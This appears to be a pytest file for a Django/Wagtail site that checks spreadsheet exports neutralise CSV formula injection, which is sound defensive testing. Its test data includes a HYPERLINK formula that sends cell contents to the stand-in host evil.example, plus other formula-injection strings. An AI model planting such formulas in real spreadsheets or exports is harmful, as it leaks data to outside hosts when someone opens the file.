"""Every spreadsheet export of the hub writes a would-be formula as text (issue 26): an
anonymous visitor's search for `=HYPERLINK(...)` is listed in two reports, page and
document titles in others, and a CSV cell starting with = + - @ tab or CR would run
when an editor opens the file (OWASP: CSV injection)."""

import csv
import io

from django.urls import reverse

from wagtail.contrib.search_promotions.models import Query

import pytest
from openpyxl import load_workbook

from cases.factories import CasePageFactory
from hub.factories import UserFactory
from hub.materials.factories import DocumentFactory
from hub.security.spreadsheets import FORMULA_STARTS, csv_writer, defuse
from search.models import UnansweredQuery
from tests.utils import response_text

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def admin_client(client):
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    return client


def csv_cells(response):
    assert response.status_code == 200
    text = response_text(response).removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_defused(cells, *planted):
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for value in planted:
        assert "'" + value in cells, f"{value!r} missing from the export"


def test_the_searches_without_results_export_writes_formulas_as_text(admin_client):
    for query in (HYPERLINK, "=1+2", "+1", "-energy", "@sum(a1)"):
        UnansweredQuery.record(query)
    cells = csv_cells(admin_client.get(reverse("search_unanswered"), {"export": "csv"}))
    assert_defused(cells, HYPERLINK.lower(), "=1+2", "+1", "-energy", "@sum(a1)")


def test_wagtails_search_terms_export_writes_formulas_as_text(admin_client):
    Query.get("=1+2").add_hit()
    url = reverse("wagtailsearchpromotions:search_terms")
    assert_defused(csv_cells(admin_client.get(url, {"export": "csv"})), "=1+2")


def test_page_and_document_titles_are_exported_as_text(admin_client, case_index):
    CasePageFactory(parent=case_index, title="=1+2").save_revision().publish()
    DocumentFactory(title="@SUM(A1:A9)")
    aging = admin_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    assert_defused(csv_cells(aging), "=1+2")
    materials = admin_client.get("/admin/reports/downloads/by-material/", {"export": "csv"})
    assert_defused(csv_cells(materials), "@SUM(A1:A9)")


def test_numbers_stay_numbers_and_xlsx_cells_are_strings(admin_client):
    UnansweredQuery.record("=1+2")
    response = admin_client.get(reverse("search_unanswered"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response_text(response, binary=True))).active
    query, searches = next(sheet.iter_rows(min_row=2, max_col=2))
    assert (query.data_type, query.value) == ("s", "=1+2")  # text, as Wagtail writes it
    assert searches.value == 1
    assert defuse(-5) == -5 and defuse(None) is None and defuse("-5") == "'-5"


def test_the_writer_defuses_every_cell():
    line = csv_writer().writerow(["\tcmd", "\rx", "ok", 3, -3])
    assert next(csv.reader(io.StringIO(line))) == ["'\tcmd", "'\rx", "ok", "3", "-3"]
